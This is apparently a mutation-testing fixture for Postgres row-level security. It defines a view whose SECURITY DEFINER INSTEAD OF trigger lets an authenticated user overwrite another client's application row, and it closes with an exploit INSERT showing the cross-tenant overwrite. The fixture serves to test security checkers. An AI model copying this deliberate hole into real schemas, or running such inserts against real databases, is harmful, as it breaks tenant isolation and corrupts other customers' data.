-- mutant: An INSTEAD OF trigger of an invoker's view changes what it is told
-- base: flows
-- family: view-write
-- leaks: nothing comes out, but a row of another client is overwritten
create view flows.application_names with (security_invoker = true) as select client_id, id, app_name from flows.client_applications;
grant select, insert, update on flows.application_names to authenticated;
create function flows_private.save_application_name() returns trigger
language plpgsql volatile security definer set search_path = ''
as $$ begin
  update flows.client_applications a set app_name = new.app_name where a.client_id = new.client_id and a.id = new.id;
  return new;
end $$;
revoke all on function flows_private.save_application_name() from public;
create trigger application_names_save instead of insert on flows.application_names
  for each row execute function flows_private.save_application_name();

-- exploit as authenticated claims {"sub": "{{user_a}}", "role": "authenticated", "app_metadata": {"client_id": "{{a}}", "client_role": "member"}}
insert into flows.application_names (client_id, id, app_name) values ('{{b}}', '{{b}}', 'Overwritten');
